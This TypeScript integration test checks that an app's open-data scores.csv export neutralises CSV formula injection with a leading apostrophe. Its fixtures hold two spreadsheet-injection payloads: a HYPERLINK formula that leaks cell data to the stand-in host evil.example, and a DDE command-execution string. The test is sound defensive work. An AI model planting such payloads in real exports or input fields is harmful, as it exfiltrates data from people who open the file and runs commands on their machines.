// Issue 24 F12, over a real socket against `npm start`'s server: open data's scores.csv escapes text a spreadsheet would
// run as a formula (= + - @ at the start) as every other export does (csvSafe, a leading apostrophe).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../core/domain/csv.ts';
import { hasChromium, reportSkip, signInOverHttp, startServer, type RunningServer } from '../support/browser.ts';

reportSkip('open data formulas (uses the same server helper as the browser tests)');

let server: RunningServer;
beforeAll(async () => {
  if (hasChromium) server = await startServer({ RAPOR_DEMO: 'on' });
}, 180_000);
afterAll(async () => {
  await server?.stop();
});

const signIn = (email: string) => signInOverHttp(server, email);

describe.skipIf(!hasChromium)('open data scores.csv over HTTP', () => {
  it('writes a unit or region name starting with = + - @ with a leading apostrophe, like the other exports', async () => {
    const cookie = await signIn('admin@demo.rapor.id');
    const put = (path: string, body: object) =>
      fetch(`${server.url}${path}`, { method: 'PUT', headers: { cookie, origin: server.url, 'content-type': 'application/json' }, body: JSON.stringify(body) });
    const unit = { slug: 'disdik-kota-palembang', name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', kind: 'disdik', regionCode: '1671', address: null };
    expect((await put(`/api/admin/units/${unit.slug}`, unit)).status).toBe(200);
    expect((await put('/api/admin/regions/1671', { code: '1671', name: '@SUM(1+1)*cmd|/C calc!A0', kind: 'kota', timezone: 'Asia/Jakarta', parentCode: null, kemendagriCode: '16.71' })).status).toBe(200);

    const res = await fetch(`${server.url}/api/open-data/2026-Q3/scores.csv`);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(await res.text(), ',').map((r) => r.cells);
    const col = (name: string) => header!.indexOf(name);
    const row = rows.find((r) => r[col('unit_slug')] === unit.slug)!;
    expect(row[col('unit_name')]).toBe(`'${unit.name}`);
    expect(row[col('region_name')]).toBe("'@SUM(1+1)*cmd|/C calc!A0");
    // No cell of the file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });
});
